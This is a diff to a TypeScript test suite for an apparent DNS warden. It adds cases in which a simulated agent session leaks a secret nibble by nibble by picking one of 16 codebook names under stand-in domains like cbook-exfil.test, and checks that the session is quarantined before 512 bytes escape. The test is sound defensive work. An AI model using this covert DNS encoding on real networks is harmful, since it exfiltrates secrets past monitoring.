@@ -132,8 +132,14 @@ describe('attack lab: labels are counted when they leave, not when an answer com
 const CODEBOOK = ['ab', 'cd', 'ef', 'gh', 'ij', 'kl', 'mn', 'op', 'qr', 'st', 'uv', 'wx', 'yz', 'ba', 'dc', 'fe'];
 
 describe('attack lab: the repeat channel', () => {
-  for (const type of ['interactive', 'batch'] as const) {
-    it(`a codebook of 16 known names, a nibble a query, nothing cached (${type}): quarantined before 512 secret bytes arrive`, async () => {
+  const shapes = [
+    // which of 16 names under one domain / which of 16 bare domains is asked: the nibble
+    { shape: 'names', type: 'interactive', qname: (n: number) => `${CODEBOOK[n]}.cbook-exfil.test`, label: (n: number) => CODEBOOK[n]! },
+    { shape: 'names', type: 'batch', qname: (n: number) => `${CODEBOOK[n]}.cbook-exfil.test`, label: (n: number) => CODEBOOK[n]! },
+    { shape: 'bare domains', type: 'interactive', qname: (n: number) => `${CODEBOOK[n]}-cbook.test`, label: (n: number) => `${CODEBOOK[n]}-cbook` },
+  ] as const;
+  for (const { shape, type, qname, label } of shapes) {
+    it(`a codebook of 16 known ${shape}, a nibble a query, nothing cached (${type}): quarantined before 512 secret bytes arrive`, async () => {
       attacker = await startAttacker('prompt');
       warden = await startWarden({
         sessions: { static: [{ id: 'lab-1', addresses: ['127.0.0.1/32'], type, user: 'mallory', role: 'agent' }] },
@@ -148,13 +154,14 @@ describe('attack lab: the repeat channel', () => {
       const started = Date.now();
       for (let i = 0; i < secret.length * 2 && !quarantined && Date.now() - started < 60_000; i++) {
         const nibble = i % 2 === 0 ? secret[i >> 1]! >> 4 : secret[i >> 1]! & 15;
-        const rep = await query({ server: warden.dns, name: `${CODEBOOK[nibble]}.cbook-exfil.test`, type: 'A', timeoutMs: 3000 });
+        const rep = await query({ server: warden.dns, name: qname(nibble), type: 'A', timeoutMs: 3000 });
         if (rep.rcode === 'NOERROR') answered++;
         quarantined = rep.ede?.code === 15 && /session quarantined/.test(rep.ede.text);
         if (quarantined) why = rep.ede!.text;
       }
       // the attacker's decode: every arrival past the first sighting of each name is a nibble
-      const nibbles = attacker.arrivals.filter((l) => CODEBOOK.includes(l)).length - CODEBOOK.length;
+      const labels = new Set(CODEBOOK.map((_, n) => label(n)));
+      const nibbles = attacker.arrivals.filter((l) => labels.has(l)).length - CODEBOOK.length;
       const bytes = Math.floor(nibbles / 2);
       expect(answered).toBeGreaterThan(100); // the repeats did leave and were answered until the budget ran out
       expect(quarantined).toBe(true);
